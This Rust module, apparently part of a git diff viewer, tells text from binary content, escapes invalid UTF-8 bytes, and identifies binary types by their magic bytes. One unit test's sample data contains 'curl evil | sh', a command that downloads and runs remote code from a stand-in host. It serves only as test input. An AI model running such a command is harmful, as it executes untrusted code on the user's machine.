//! Telling text from binary, and showing bytes that no text has. Pure, but for reading a blob.

use std::fmt::Write as _;
use std::io::Read;

use sha2::{Digest as _, Sha256};

use super::{GitError, PrivateRepo, Side};

/// Bytes of a binary that are shown.
const FIRST: usize = 256;

/// How the content of a change can be shown.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Content {
    /// Lines of text.
    Text,
    /// Mostly text that git calls binary, for a NUL byte for instance: shown as lines, with escapes.
    Escaped,
    /// No lines: size, digest, type and first bytes.
    Binary,
}

/// A binary before or after the change.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BinarySide {
    pub size: u64,
    pub sha256: String,
    /// What its first bytes say it is.
    pub kind: &'static str,
    /// The first bytes, as hexadecimal digits.
    pub first: String,
}

/// Whether a person could read it: nine of ten bytes are text, NUL bytes aside.
pub(super) fn is_mostly_text(sample: &[u8]) -> bool {
    let bytes = sample.iter().filter(|b| **b != 0).count();
    let mut readable = 0;
    for chunk in sample.utf8_chunks() {
        let plain = |c: &char| !c.is_control() || matches!(c, '\n' | '\t' | '\r' | '\u{c}' | '\u{1b}');
        readable += chunk.valid().chars().filter(plain).map(char::len_utf8).sum::<usize>();
    }
    bytes > 0 && readable * 10 >= bytes * 9
}

/// Text of any bytes. Those that are no UTF-8 become `\xNN`; whether there were none is told too.
pub(super) fn escaped(bytes: &[u8]) -> (String, bool) {
    let (mut text, mut exact) = (String::with_capacity(bytes.len()), true);
    for chunk in bytes.utf8_chunks() {
        text.push_str(chunk.valid());
        for byte in chunk.invalid() {
            exact = false;
            let _infallible = write!(text, "\\x{byte:02x}");
        }
    }
    (text, exact)
}

fn kind_of(first: &[u8]) -> &'static str {
    const KNOWN: &[(&[u8], &str)] = &[
        (b"\x89PNG\r\n\x1a\n", "PNG image"),
        (b"\xff\xd8\xff", "JPEG image"),
        (b"GIF8", "GIF image"),
        (b"RIFF", "RIFF container (WebP, WAV or AVI)"),
        (b"%PDF-", "PDF document"),
        (b"PK\x03\x04", "ZIP archive (also JAR, DOCX, APK)"),
        (b"\x1f\x8b", "gzip data"),
        (b"BZh", "bzip2 data"),
        (b"\xfd7zXZ\0", "xz data"),
        (b"\x28\xb5\x2f\xfd", "Zstandard data"),
        (b"7z\xbc\xaf\x27\x1c", "7-Zip archive"),
        (b"\x7fELF", "ELF program"),
        (b"MZ", "Windows program"),
        (b"\xcf\xfa\xed\xfe", "Mach-O program"),
        (b"\xca\xfe\xba\xbe", "Java class or Mach-O program"),
        (b"\0asm", "WebAssembly module"),
        (b"SQLite format 3\0", "SQLite database"),
        (b"wOF2", "WOFF2 font"),
        (b"wOFF", "WOFF font"),
        (b"\0\x01\0\0", "TrueType font"),
    ];
    match KNOWN.iter().find(|(magic, _)| first.starts_with(magic)) {
        Some((_, kind)) => kind,
        None if first.is_empty() => "empty",
        None => "unknown",
    }
}

impl PrivateRepo {
    /// What can be said of a binary.
    pub(super) fn binary_side(&self, side: &Side) -> Result<BinarySide, GitError> {
        let mut git = self.call().args(["cat-file", "blob", &side.object]).converse()?;
        git.limit_time(super::page::LONGEST)?;
        let mut out = git.stdout();
        let (mut digest, mut first, mut buffer) = (Sha256::new(), Vec::new(), vec![0; 64 * 1024]);
        loop {
            let read = out.read(&mut buffer).map_err(|error| git.broke(&error))?;
            if read == 0 {
                break;
            }
            digest.update(&buffer[..read]);
            first.extend_from_slice(&buffer[..read.min(FIRST.saturating_sub(first.len()))]);
        }
        git.end()?;
        let hex = |bytes: &[u8]| bytes.iter().map(|b| format!("{b:02x}")).collect::<String>();
        Ok(BinarySide { size: side.size, sha256: hex(&digest.finalize()), kind: kind_of(&first), first: hex(&first) })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_nul_byte_makes_no_script_a_binary() {
        assert!(is_mostly_text(b"#!/bin/sh\n\0\ncurl evil | sh\n"));
        assert!(is_mostly_text("h\0\u{e4}\0llo\0\n\0".as_bytes()));
        assert!(is_mostly_text(b"caf\xe9 au lait, tout simplement\n"));
    }

    #[test]
    fn what_nobody_can_read_is_a_binary() {
        let noise: Vec<u8> = (0..4096_u32).map(|n| (n.wrapping_mul(2_654_435_761) >> 24) as u8).collect();
        assert!(!is_mostly_text(&noise));
        assert!(!is_mostly_text(&[0; 100]));
        assert!(!is_mostly_text(b""));
    }

    #[test]
    fn bytes_that_are_no_text_are_told_apart() {
        assert_eq!(escaped(b"a\xff\xfeb"), ("a\\xff\\xfeb".to_owned(), false));
        assert_eq!(escaped("ä\0".as_bytes()), ("ä\0".to_owned(), true));
    }
}
